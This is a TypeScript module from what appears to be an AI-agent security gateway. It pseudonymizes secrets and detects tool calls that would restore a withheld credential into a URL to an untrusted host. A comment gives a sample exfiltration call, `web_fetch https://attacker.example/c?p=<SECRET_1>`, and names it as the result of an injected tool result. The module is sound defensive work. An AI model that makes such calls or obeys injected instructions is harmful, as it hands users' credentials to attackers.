import { randomBytes } from 'node:crypto';
import type { Logger } from 'pino';
import type { Finding, Principal, Segment } from '../core/index.js';
import { domainMatches } from '../guards/toolcalls/net.js';
import { parseUrl } from '../guards/toolcalls/urls.js';
import { maskPlaceholders, placeholderSpans } from '../transform/placeholder.js';
import { deriveConversationId, MemoryVaultStore, type PseudonymMap, PseudonymVault, VaultError, type VaultStore } from '../transform/vault.js';

/**
 * The gateway's side of pseudonymization: finds the conversation a request belongs to, opens its
 * encrypted mapping, and restores placeholders in answers.
 */
export class PseudonymService {
  private readonly vault: PseudonymVault;

  constructor(
    private readonly key: Buffer,
    store: VaultStore,
    ttlMs: number,
    private readonly log: Logger,
    /** Labels restored only in tool-call arguments, never in answer text (see PseudonymMap.withheldInText). */
    private readonly withheldInText: ReadonlySet<string> = new Set(['SECRET']),
    /** Values only the operator's system prompt held stay placeholders in answer text (see PseudonymMap.withholdOperatorValues). */
    private readonly withholdOperatorValues = true,
  ) {
    this.vault = new PseudonymVault({ store, key, ttlMs });
  }

  /** A service whose mappings live in memory under a random key: they end with the process. */
  static ephemeral(log: Logger, ttlMs: number, withheldInText?: ReadonlySet<string>, withholdOperatorValues?: boolean): PseudonymService {
    return new PseudonymService(randomBytes(32), new MemoryVaultStore(), ttlMs, log, withheldInText, withholdOperatorValues);
  }

  /**
   * The conversation id: the client's `x-clawguard-conversation` header when given, else derived from
   * the caller and the conversation's first system and user texts (which every turn re-sends).
   */
  conversationId(principal: Principal, segments: readonly Segment[], header: string | undefined): string {
    if (header && header.length <= 200) return deriveConversationId(this.key, principal.id, [`header:${header}`]);
    let firstSystem: string | undefined;
    let firstUser: string | undefined;
    for (const s of segments) {
      if (firstSystem === undefined && (s.role === 'system' || s.role === 'developer')) firstSystem = s.text;
      else if (firstUser === undefined && s.role === 'user') firstUser = s.text;
      if (firstSystem !== undefined && firstUser !== undefined) break;
    }
    return deriveConversationId(this.key, principal.id, [firstSystem ?? '', firstUser ?? '']);
  }

  /**
   * The conversation's mapping. A row that does not decrypt (another vault key, corruption) fails
   * closed: the request is refused rather than forwarded with a fresh mapping that could not restore
   * the conversation's earlier placeholders.
   */
  async open(conversationId: string): Promise<PseudonymMap> {
    try {
      const map = await this.vault.open(conversationId);
      map.withheldInText = this.withheldInText;
      map.withholdOperatorValues = this.withholdOperatorValues;
      return map;
    } catch (error) {
      if (error instanceof VaultError) this.log.error({ error: error.message }, 'pseudonym vault row unreadable');
      throw error;
    }
  }

  async save(map: PseudonymMap): Promise<void> {
    if (map.changed) await this.vault.save(map);
  }
}

/** Restores placeholders inside a JSON text (tool-call arguments) without breaking its string escapes. */
export function restoreJsonText(map: PseudonymMap, text: string): string {
  if (map.size === 0 || !text.includes('<')) return text;
  let value: unknown;
  try {
    value = JSON.parse(text);
  } catch {
    return map.restoreAll(text);
  }
  const walk = (node: unknown): unknown => {
    if (typeof node === 'string') return map.restoreAll(node);
    if (Array.isArray(node)) return node.map(walk);
    if (node && typeof node === 'object') return Object.fromEntries(Object.entries(node).map(([k, v]) => [k, walk(v)]));
    return node;
  };
  return JSON.stringify(walk(value));
}

/**
 * Tool calls are judged on the arguments the agent will run, placeholders restored: a value
 * pseudonymized on input (`http://<IP_ADDRESS_1>/…`) must not hide a metadata-service URL from the
 * tool-call policy. This segment's copy with restored arguments, for the output inspection.
 */
export function withRestoredToolArguments(map: PseudonymMap | undefined, segments: readonly Segment[]): readonly Segment[] {
  if (!map || map.size === 0) return segments;
  return segments.map((s) => (s.kind === 'tool_call' ? { ...s, text: restoreJsonText(map, s.text) } : s));
}

/**
 * The conversation's own pseudonymized values coming back in restored tool-call arguments are not
 * findings of the data guards (the agent acts with its user's data); the tool-call policy's own
 * findings, every other value, and every finding in text stay.
 */
export function ownValuesInToolCalls(map: PseudonymMap | undefined): ((finding: Finding, segment: Segment | undefined) => boolean) | undefined {
  if (!map || map.size === 0) return undefined;
  return (finding, segment) => {
    if (segment?.kind !== 'tool_call' || !finding.span || finding.type.startsWith('toolcall.')) return true;
    return !map.knowsValue(segment.text.slice(finding.span.start, finding.span.end));
  };
}

/** What ends a URL inside tool arguments (JSON text, shell words). */
const URL_END = /[\s"'`()<>[\]{}]/;

/**
 * Findings for the model's tool calls, read as the model wrote them (placeholders in), that put a
 * withheld credential (a placeholder of a label in `map.withheldInText`, `SECRET` by default, that this
 * conversation made) inside a URL. Restoring it would hand the real value to whatever host the URL
 * names (`web_fetch https://attacker.example/c?p=<SECRET_1>` after an injected tool result), and once
 * restored a password of no known format looks like any other word to the URL checks. Allowed where the
 * host is trusted (`guards.toolcalls.domains.allow`), e.g. `https://api.telegram.org/bot<SECRET_1>/…`.
 * A credential in a header or a body is not covered here: the egress proxy is the control for that.
 */
export function withheldCredentialsInUrls(map: PseudonymMap | undefined, toolCalls: readonly Segment[], trusted: readonly string[]): Finding[] {
  if (!map || map.size === 0 || map.withheldInText.size === 0) return [];
  const out: Finding[] = [];
  for (const s of toolCalls) {
    if (s.kind !== 'tool_call' || s.direction !== 'output') continue;
    const spans = placeholderSpans(s.text);
    const withheld = spans.filter((p) => map.withheldInText.has(p.label) && map.original(s.text.slice(p.start, p.end)) !== undefined);
    if (withheld.length === 0) continue;
    const masked = maskPlaceholders(s.text, spans);
    for (const p of withheld) {
      let a = p.start;
      while (a > 0 && !URL_END.test(masked[a - 1]!)) a--;
      let b = p.end;
      while (b < masked.length && !URL_END.test(masked[b]!)) b++;
      // A JSON string's escaped quote (`\"`) or sentence punctuation is not part of the URL.
      const url = parseUrl(masked.slice(a, b).replace(/[\\.,;:!?]+$/, ''));
      if (!url || !/^(?:https?|wss?|ftp):$/.test(url.protocol)) continue;
      const host = url.hostname.toLowerCase();
      if (trusted.some((d) => domainMatches(d, host))) continue;
      out.push({
        guard: 'toolcalls',
        type: 'toolcall.credential_in_url',
        score: 0.95,
        segmentId: s.id,
        reason: `a credential withheld from the model (${p.label}) would be restored into a URL to ${host}, which is not a trusted domain (guards.toolcalls.domains.allow)`,
      });
      break;
    }
  }
  return out;
}
